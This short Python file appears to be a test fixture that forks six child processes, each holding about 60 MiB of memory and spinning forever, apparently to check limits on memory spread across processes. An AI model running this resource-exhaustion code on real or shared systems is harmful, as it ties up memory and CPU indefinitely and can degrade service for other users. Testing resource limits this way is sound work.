"""Takes memory in many processes, a little in each."""

import os


def attacked(x):
    for _ in range(6):
        if os.fork() == 0:
            break
    kept = bytearray(b"x") * (60 * 2**20)
    while kept:
        pass
